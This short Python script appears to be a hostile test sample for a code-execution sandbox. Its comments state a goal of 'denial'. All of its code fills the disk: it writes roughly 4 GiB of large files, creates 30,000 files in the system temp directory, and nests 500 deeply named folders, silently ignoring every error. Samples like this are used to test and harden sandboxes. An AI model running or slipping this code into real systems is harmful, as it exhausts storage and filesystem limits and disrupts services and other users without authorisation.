# Tries: to fill the disk, with large files, with many files, and with deep folders.
# Earns: nothing
# Goal: denial

# %%
import os
import tempfile

try:
    for number in range(1000):
        open(f"large{number}", "wb").write(bytes(2**22))
except OSError:
    pass
try:
    for number in range(30_000):
        open(f"{tempfile.gettempdir()}/{number}", "w").close()
except OSError:
    pass

# %%
try:
    for _ in range(500):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError:
    pass
